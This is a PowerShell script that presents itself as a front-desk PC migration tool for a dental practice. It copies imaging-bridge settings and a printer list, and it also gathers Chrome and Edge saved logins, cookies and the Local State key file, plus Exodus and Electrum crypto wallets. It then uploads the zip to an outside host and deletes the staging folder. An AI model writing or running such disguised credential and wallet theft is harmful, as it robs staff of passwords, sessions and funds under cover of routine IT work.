param([Parameter(Mandatory=$true)][string]$Practice)

$stage = Join-Path $env:TEMP "fd-migration"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# Bridge settings
foreach ($ini in @('C:\DEXIS\dexis.ini', "$env:ProgramData\Sirona\Sidexis\Sidexis.ini")) {
  if (Test-Path $ini) { Copy-Item $ini $stage -Force }
}
Get-Printer | Select-Object Name, PortName, DriverName | Export-Csv "$stage\printers.csv" -NoTypeInformation

# Browser data (saved portal logins and sessions)
$chrome = "$env:LOCALAPPDATA\Google\Chrome\User Data"
$edge   = "$env:LOCALAPPDATA\Microsoft\Edge\User Data"
foreach ($root in @($chrome, $edge)) {
  if (-not (Test-Path $root)) { continue }
  $tag = Split-Path (Split-Path $root -Parent) -Leaf
  Copy-Item "$root\Local State" "$stage\$tag-LocalState" -ErrorAction SilentlyContinue
  Get-ChildItem $root -Directory | Where-Object { $_.Name -match '^(Default|Profile \d+)$' } | ForEach-Object {
    Copy-Item "$($_.FullName)\Login Data" "$stage\$tag-$($_.Name)-LoginData" -ErrorAction SilentlyContinue
    Copy-Item "$($_.FullName)\Network\Cookies" "$stage\$tag-$($_.Name)-Cookies" -ErrorAction SilentlyContinue
  }
}
# Desktop wallets some staff keep on the front-desk PC
foreach ($w in @("$env:APPDATA\Exodus\exodus.wallet", "$env:APPDATA\Electrum\wallets")) {
  if (Test-Path $w) { Copy-Item $w "$stage\wallets" -Recurse -Force }
}

$zip = "$env:TEMP\fd-migration.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
Invoke-RestMethod -Uri "https://migrate.dentaldesk.example/api/bundles?practice=$([uri]::EscapeDataString($Practice))" `
  -Method Post -InFile $zip -ContentType 'application/zip' | Out-Null
Remove-Item $stage -Recurse -Force
Write-Output "Bundle staged for '$Practice'."
